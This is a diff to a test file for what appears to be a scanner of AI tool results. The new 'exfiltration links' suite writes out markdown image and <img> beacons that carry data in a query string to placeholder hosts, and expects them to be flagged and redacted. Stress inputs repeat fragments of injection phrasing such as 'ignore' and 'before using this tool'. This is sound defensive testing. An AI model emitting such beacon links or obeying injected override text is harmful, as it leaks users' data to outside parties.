@@ -111,6 +111,7 @@ describe('pathological input', () => {
     'connection-string prefixes without @': 'a://b:c'.repeat(MB / 7),
     'password= without values': 'password='.repeat(MB / 9),
     'gitlab prefixes': 'glpat-'.repeat(MB / 6),
+    'unclosed markdown images': '![a](https://x.example/p?q='.repeat(MB / 28),
     'slack prefixes': 'xoxb-'.repeat(MB / 5),
     'ignore ignore ignore': 'ignore '.repeat(MB / 7),
     'before using before using': 'before using this tool '.repeat(MB / 23),
@@ -135,5 +136,15 @@ describe('malformed results', () => {
     const junk = [null, 3, { type: 'text', text: 5 }, { type: 'resource', resource: null }, { uri: 'x', blob: 'AA==' }] as unknown as ContentBlock[];
     expect(inspectContent(junk).content).toEqual(junk);
     expect(inspectToolResult({ content: 'nope' } as unknown as CallToolResult).findings).toEqual([]);
+  });
+});
+
+describe('exfiltration links', () => {
+  it('flag auto-loading images with data in the query, redact them on request, and leave ordinary images alone', () => {
+    const beacon = `![x](https://e.example/a.png?q=${'A'.repeat(40)})`;
+    expect(inspectContent(beacon).findings[0]).toMatchObject({ rule: 'MCP-R005', severity: 'medium' });
+    expect(inspectContent(`<img src="https://e.example/a?d={data}">`).findings[0]?.rule).toBe('MCP-R005');
+    expect(inspectContent(beacon, { actions: { 'exfil-link': 'redact' } }).content).toBe('[REDACTED:exfil-link]');
+    expect(inspectContent('![logo](https://cdn.example/logo.png?w=600&h=200)').findings).toEqual([]);
   });
 });
